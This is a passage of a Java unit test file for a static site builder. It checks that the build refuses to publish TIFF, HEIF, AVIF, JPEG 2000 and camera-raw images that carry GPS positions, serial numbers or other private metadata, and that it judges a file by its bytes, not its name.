    }
    return heif(brand, box("iloc", iloc.array()), itemTypes);
  }

  private static byte[] heif(String brand, byte[] iloc, String... itemTypes) {
    ByteArrayOutputStream entries = new ByteArrayOutputStream();
    for (int i = 0; i < itemTypes.length; i++) {
      // infe version 2: version and flags, item id, protection index, item type, an empty name
      entries.writeBytes(box("infe", new byte[] {2, 0, 0, 0, 0, (byte) (i + 1), 0, 0}, itemTypes[i].getBytes(StandardCharsets.ISO_8859_1), new byte[1]));
    }
    byte[] iinf = box("iinf", new byte[] {0, 0, 0, 0, 0, (byte) itemTypes.length}, entries.toByteArray());
    byte[] hdlr = box("hdlr", new byte[8], "pict".getBytes(StandardCharsets.ISO_8859_1), new byte[13]);
    byte[] ispe = box("ispe", new byte[4], ByteBuffer.allocate(8).putInt(64).putInt(48).array());
    byte[] iprp = box("iprp", box("ipco", ispe), box("ipma", new byte[] {0, 0, 0, 0, 0, 0, 0, 1, 0, 1, 1, (byte) 0x81}));
    return concat(box("ftyp", brand.getBytes(StandardCharsets.ISO_8859_1), new byte[4], ("mif1" + brand).getBytes(StandardCharsets.ISO_8859_1)),
        box("meta", new byte[4], hdlr, box("pitm", new byte[] {0, 0, 0, 0, 0, 1}), iloc, iinf, iprp), box("mdat", new byte[32]));
  }

  /**
   * Briefing cannot take metadata out of a TIFF, a HEIF (an iPhone's photo), an AVIF, a JPEG XL or
   * JPEG 2000, a Photoshop file or a camera raw: one that holds a GPS position, the camera's serial
   * number or an editing history stops the build at the file, naming what it holds, rather than
   * being published with it.
   */
  @Test
  void aPictureBriefingCannotCleanThatHoldsPrivateMetadataStopsTheBuild() throws Exception {
    TestSite raw = siteShowing("shot.dng").writeBytes("static/images/shot.dng", TaggedPhotos.tiff(TaggedPhotos.Tags.phone(1)));
    var error = raw.buildFails();
    assertThat(error).extracting(p -> p.format(dir)).singleElement().asString()
        .startsWith("static/images/shot.dng: error: it holds the camera's make and model, the camera's serial number, a GPS position,")
        .contains("which Briefing cannot take out of a camera raw (.dng) file; it is not published");
    assertThat(error.get(0).hint()).contains("convert it to JPEG, PNG or WebP").contains("exiftool -all=");

    TestSite tiff = TestSite.of(dir.resolve("tiff"), Fixtures.CONFIG + Fixtures.SOURCES)
        .writeBytes("static/maps/route.TIFF", TaggedPhotos.tiff(new TaggedPhotos.Tags(0, true, null, null, null, null, null)));
    assertThat(tiff.buildFails()).extracting(p -> p.format(dir.resolve("tiff"))).singleElement().asString()
        .startsWith("static/maps/route.TIFF: error: it holds the camera's make and model, the camera's serial number, a GPS position");

    TestSite phone = TestSite.of(dir.resolve("heic"), Fixtures.CONFIG + Fixtures.SOURCES)
        .writeBytes("static/images/IMG_0412.HEIC", heif("heic", "hvc1", "Exif"));
    assertThat(phone.buildFails()).extracting(p -> p.format(dir.resolve("heic"))).singleElement().asString()
        .startsWith("static/images/IMG_0412.HEIC: error: it holds EXIF (the camera, its serial number, dates, perhaps a GPS position)")
        .contains("a HEIF file");
    TestSite avif = TestSite.of(dir.resolve("avif"), Fixtures.CONFIG + Fixtures.SOURCES)
        .writeBytes("static/images/chart.avif", heif("avif", "av01", "mime"));
    assertThat(avif.buildFails()).extracting(p -> p.format(dir.resolve("avif"))).singleElement().asString()
        .startsWith("static/images/chart.avif: error: it holds XMP or other data of an application");
    byte[] jp2 = concat(box("jP  ", new byte[] {13, 10, (byte) 0x87, 10}), box("ftyp", "jp2 ".getBytes(StandardCharsets.ISO_8859_1), new byte[4],
        "jp2 ".getBytes(StandardCharsets.ISO_8859_1)), box("xml ", "<x:xmpmeta>Ana's laptop</x:xmpmeta>".getBytes(StandardCharsets.UTF_8)),
        box("jp2c", new byte[] {(byte) 0xFF, 0x4F}));
    TestSite jpeg2000 = TestSite.of(dir.resolve("jp2"), Fixtures.CONFIG + Fixtures.SOURCES).writeBytes("static/scan.jp2", jp2);
    assertThat(jpeg2000.buildFails()).extracting(p -> p.format(dir.resolve("jp2"))).singleElement().asString()
        .startsWith("static/scan.jp2: error: it holds XMP or other XML");
  }

  /**
   * A TIFF or HEIF is known by its first bytes whatever its name says: one saved as {@code .jpg} or
   * {@code .png} (as some tools and downloads name them), or under a name that says no picture, is
   * judged as its bytes say, not copied unread with its GPS position; one with nothing private is
   * published as it is, and a video's file of the same box format is no picture. Before, a TIFF
   * named {@code .jpg} was published with its camera, serial number and GPS position.
   */
  @Test
  void aTiffOrHeifUnderAnotherFormatsNameIsJudgedByItsBytes() throws Exception {
    TestSite tiff = TestSite.of(dir.resolve("tiff"), Fixtures.CONFIG + Fixtures.SOURCES)
        .writeBytes("static/images/route.jpg", TaggedPhotos.tiff(TaggedPhotos.Tags.phone(1)));
    var refused = tiff.buildFails();
    assertThat(refused).extracting(p -> p.format(dir.resolve("tiff"))).singleElement().asString()
        .startsWith("static/images/route.jpg: error: it holds the camera's make and model, the camera's serial number, a GPS position")
        .contains("which Briefing cannot take out of a TIFF file (its bytes are a TIFF file's, whatever its name says); it is not published");
    assertThat(refused.get(0).hint()).contains("exiftool -all=");

    TestSite phone = TestSite.of(dir.resolve("heic"), Fixtures.CONFIG + Fixtures.SOURCES)
        .writeBytes("static/images/IMG_0412", heif("heic", "hvc1", "Exif"))
        .writeBytes("static/images/upload.png", heif("mif1", "hvc1", "Exif"));
    assertThat(phone.buildFails()).extracting(p -> p.format(dir.resolve("heic"))).containsExactlyInAnyOrder(
        "static/images/IMG_0412: error: it holds EXIF (the camera, its serial number, dates, perhaps a GPS position), which Briefing"
            + " cannot take out of a HEIF file; it is not published\n  hint: " + refused.get(0).hint(),
        "static/images/upload.png: error: it holds EXIF (the camera, its serial number, dates, perhaps a GPS position), which Briefing"
            + " cannot take out of a HEIF file (its bytes are a HEIF file's, whatever its name says); it is not published\n  hint: "
            + refused.get(0).hint());

    // an Olympus raw (MMOR, as a big-endian one starts) as a JPEG, and a HEIF whose major brand is a video's with mif1 among its others
    byte[] orf = TaggedPhotos.tiff(TaggedPhotos.Tags.phone(1));
    orf[2] = 'O';
    orf[3] = 'R';
    TestSite raw = TestSite.of(dir.resolve("raw"), Fixtures.CONFIG + Fixtures.SOURCES)
        .writeBytes("static/images/shot.jpg", orf)
        .writeBytes("static/images/clip.png", heif("isom", "hvc1", "Exif"));
    assertThat(raw.buildFails()).extracting(p -> p.format(dir.resolve("raw"))).hasSize(2)
        .anyMatch(e -> e.startsWith("static/images/shot.jpg: error: ") && e.contains("camera raw (.orf)"))
        .anyMatch(e -> e.startsWith("static/images/clip.png: error: it holds EXIF") && e.contains("HEIF"));

    byte[] plain = heif("heic", "hvc1");
    byte[] video = concat(box("ftyp", "isom".getBytes(StandardCharsets.ISO_8859_1), new byte[4], "isomavc1".getBytes(StandardCharsets.ISO_8859_1)),
        box("mdat", new byte[32]));
    TestSite site = siteShowing("plain.jpg")
        .writeBytes("static/images/plain.jpg", plain)
        .writeBytes("static/clips/intro.mp4", video)
        .build();
    assertThat(Files.readAllBytes(site.out().resolve("images/plain.jpg"))).isEqualTo(plain);
    assertThat(Files.readAllBytes(site.out().resolve("clips/intro.mp4"))).isEqualTo(video);
  }

  /**
   * A picture of those formats with nothing private in it (a TIFF written by ImageIO, a HEIF or AVIF
   * of a picture item alone, one whose EXIF and XMP items exiftool emptied, a bare JPEG XL codestream) is published as it is; one that cannot be read
   * at all is not published unread. A rebuild publishes what a clean build does (TestSite compares them).
   */
  @Test
  void aCleanPictureBriefingCannotCleanIsPublishedAsItIsAndAnUnreadableOneIsNot() throws Exception {
    java.awt.image.BufferedImage picture = TestImages.picture(16, 12, 4, false);
    ByteArrayOutputStream tiff = new ByteArrayOutputStream();
    assertThat(javax.imageio.ImageIO.write(picture, "tiff", tiff)).isTrue();
    byte[] heic = heif("heic", "hvc1");
    byte[] avif = heif("avif", "av01", "grid");
    byte[] emptied = heifWithEmptiedItems("heic", "hvc1", "Exif", "mime");
    byte[] jxl = {(byte) 0xFF, 0x0A, (byte) 0xFA, 0x07, 0x10, 0x00, 0x4B, 0x12};
    TestSite site = siteShowing("chart.tif")
        .writeBytes("static/images/chart.tif", tiff.toByteArray())
        .writeBytes("static/images/plain.heic", heic)
        .writeBytes("static/images/plain.avif", avif)
        .writeBytes("static/images/emptied.heic", emptied)
        .writeBytes("static/images/plain.jxl", jxl)
        .build();
    assertThat(Files.readAllBytes(site.out().resolve("images/chart.tif"))).isEqualTo(tiff.toByteArray());
    assertThat(Files.readAllBytes(site.out().resolve("images/plain.heic"))).isEqualTo(heic);
    assertThat(Files.readAllBytes(site.out().resolve("images/plain.avif"))).isEqualTo(avif);
    assertThat(Files.readAllBytes(site.out().resolve("images/plain.jxl"))).isEqualTo(jxl);
    assertThat(Files.readAllBytes(site.out().resolve("images/emptied.heic"))).isEqualTo(emptied);
    // an edit that puts a location in one is seen by the next build, which stops
    site.writeBytes("static/images/plain.heic", heif("heic", "hvc1", "Exif"));
    assertThat(site.buildFails()).extracting(p -> p.format(dir)).singleElement().asString()
        .startsWith("static/images/plain.heic: error: it holds EXIF");

    TestSite broken = TestSite.of(dir.resolve("broken"), Fixtures.CONFIG + Fixtures.SOURCES)
        .write("-- static/images/notes.tiff --\nnot a picture at all\n");
    assertThat(broken.buildFails()).extracting(p -> p.format(dir.resolve("broken"))).singleElement().asString()
        .startsWith("static/images/notes.tiff: error: this TIFF file cannot be read (").contains("it is not published unread");
    TestSite cut = TestSite.of(dir.resolve("cut"), Fixtures.CONFIG + Fixtures.SOURCES)
        .writeBytes("static/images/cut.avif", java.util.Arrays.copyOf(avif, 40));
    assertThat(cut.buildFails()).extracting(p -> p.format(dir.resolve("cut"))).singleElement().asString()
        .startsWith("static/images/cut.avif: error: this AVIF file cannot be read (");
  }
}
